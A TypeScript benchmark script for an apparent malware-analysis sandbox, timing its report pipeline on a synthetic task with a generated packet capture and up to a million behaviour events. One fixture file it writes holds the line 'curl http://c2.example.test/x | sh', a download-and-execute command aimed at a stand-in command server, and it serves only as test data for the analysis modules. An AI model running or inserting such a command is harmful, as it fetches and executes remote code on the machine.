import { execFile } from 'node:child_process';
import { copyFileSync, createWriteStream, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { pino } from 'pino';
import type { BehaviorEvent, EventBody } from '../src/report/events.js';
import { type AppContext, createContext } from '../src/app.js';
import { validateConfig } from '../src/config/load.js';
import { sha256File } from '../src/processing/fileinfo.js';
import { processTask } from '../src/pipeline/process-task.js';
import type { AnalysisPaths } from '../src/storage/layout.js';
import { ethernetTcpPcap, TCP_SYN } from '../test/helpers/pcap-file.js';

/**
 * Processing time and peak memory of the whole pipeline (every module, report.json written) for a
 * small task and for one whose behaviour log holds a million events. Each case runs in a fresh process
 * so its peak RSS is its own.
 *
 *   node dist/bench/processing.js
 */

const SCENARIOS = { small: 2_000, million: 1_000_000 } as const;
type Scenario = keyof typeof SCENARIOS;

async function main(): Promise<void> {
  const scenario = process.argv[2] as Scenario | undefined;
  if (scenario && scenario in SCENARIOS) {
    console.log(JSON.stringify(await measure(scenario)));
    return;
  }
  console.log('scenario   events     time      peak RSS   RSS growth   report.json');
  for (const name of Object.keys(SCENARIOS) as Scenario[]) {
    const { stdout } = await promisify(execFile)(process.execPath, [fileURLToPath(import.meta.url), name], { maxBuffer: 1 << 20 });
    const result = JSON.parse(stdout) as Awaited<ReturnType<typeof measure>>;
    console.log(
      `${name.padEnd(10)} ${String(SCENARIOS[name]).padStart(7)} ${`${(result.ms / 1000).toFixed(2)} s`.padStart(9)} ${`${result.peakMiB} MiB`.padStart(10)} ${`${result.growthMiB} MiB`.padStart(11)} ${`${result.reportMiB} MiB`.padStart(12)}`,
    );
  }
}

async function measure(scenario: Scenario) {
  const home = mkdtempSync(join(tmpdir(), 'nestbox-bench-processing-'));
  const config = validateConfig({ paths: { storage: join(home, 'storage'), tmppath: join(home, 'tmp') }, logging: { level: 'silent' } });
  const ctx = await createContext({ config, home, log: pino({ level: 'silent' }) });
  try {
    const { id, paths } = await prepareTask(ctx, SCENARIOS[scenario]);
    global.gc?.();
    const before = process.resourceUsage().maxRSS;
    const started = performance.now();
    await processTask(ctx, id);
    const ms = performance.now() - started;
    const status = (await ctx.stores.tasks.get(id))!.status;
    if (status !== 'reported') throw new Error(`task ended ${status}`);
    const { size } = await import('node:fs/promises').then((fs) => fs.stat(paths.reportJson));
    const peak = process.resourceUsage().maxRSS;
    return { ms: Math.round(ms), peakMiB: Math.round(peak / 1024), growthMiB: Math.round((peak - before) / 1024), reportMiB: Math.round(size / 1048576) };
  } finally {
    await ctx.close();
    rmSync(home, { recursive: true, force: true });
  }
}

/** A completed task with raw results: /bin/ls as the sample, a capture, a behaviour log of `events` events. */
async function prepareTask(ctx: AppContext, events: number): Promise<{ id: number; paths: AnalysisPaths }> {
  const sha256 = await sha256File('/bin/ls');
  copyFileSync('/bin/ls', ctx.layout.binary(sha256));
  const sampleId = await ctx.stores.samples.upsert({ file_size: 0, file_type: '', md5: '', crc32: '', sha1: '', sha256, sha512: '', ssdeep: null });
  const now = new Date().toISOString();
  const id = await ctx.stores.tasks.insert({
    target: '/tmp/ls', category: 'file', timeout: 60, priority: 1, custom: '', owner: '', machine: '', package: '', platform: 'linux',
    tags: '[]', options: '', memory: 0, enforce_timeout: 0, clock: now, added_on: now, started_on: now, completed_on: now,
    status: 'completed', sample_id: sampleId, submit_id: null, processing: null, route: 'none', reboot_of: null,
  });
  const paths = ctx.layout.analysis(id);
  paths.create();
  symlinkSync(ctx.layout.binary(sha256), paths.binary);
  writeFileSync(paths.pcap, syntheticCapture());
  await writeEvents(join(paths.logs, 'events.jsonl'), events);
  writeFileSync(join(paths.files, '0123456789abcdef_dropped.sh'), '#!/bin/sh\ncurl http://c2.example.test/x | sh\n');
  return { id, paths };
}

async function writeEvents(path: string, count: number): Promise<void> {
  const out = createWriteStream(path);
  for (let start = 0; start < count; start += 10000) {
    const lines: string[] = [];
    for (let i = start; i < Math.min(count, start + 10000); i++) {
      const pid = 1000 + (i % 20);
      const body: EventBody =
        i < 20 ? { kind: 'process.exec', path: `/usr/bin/worker${pid}`, argv: [`worker${pid}`], ret: 0 }
        : i % 4 === 0 ? { kind: 'file.open', path: `/data/file-${i}.txt`, flags: 0o101, mode: 0o644, ret: 3 }
        : i % 4 === 1 ? { kind: 'file.write', path: `/data/file-${i - 1}.txt`, bytes: 512 }
        : i % 4 === 2 ? { kind: 'net.connect', fd: 3, family: 'inet', address: `198.51.100.${i % 200}`, port: 443, ret: -115 }
        : { kind: 'memory.exec_map', call: 'mmap', address: `0x7f${(i % 5000).toString(16)}000`, length: 4096, prot: 5 };
      lines.push(JSON.stringify({ ts: 1_700_000_000 + i / 1000, pid, ppid: 1, tid: pid, comm: `worker${pid}`, ...body } as BehaviorEvent));
    }
    if (!out.write(lines.join('\n') + '\n')) await new Promise<void>((resolve) => out.once('drain', () => resolve()));
  }
  await new Promise((resolve) => out.end(resolve));
}

/** A capture with one HTTP request from the machine: enough for the network modules to work. */
function syntheticCapture(): Buffer {
  const http = 'GET /x HTTP/1.1\r\nHost: c2.example.test\r\nUser-Agent: bench\r\n\r\n';
  const connection = { src: '10.200.0.2', sport: 40000, dst: '192.0.2.10', dport: 80 };
  return ethernetTcpPcap([
    { ...connection, flags: TCP_SYN, seq: 1000 },
    { ...connection, seq: 1001, payload: http },
  ]);
}

await main();
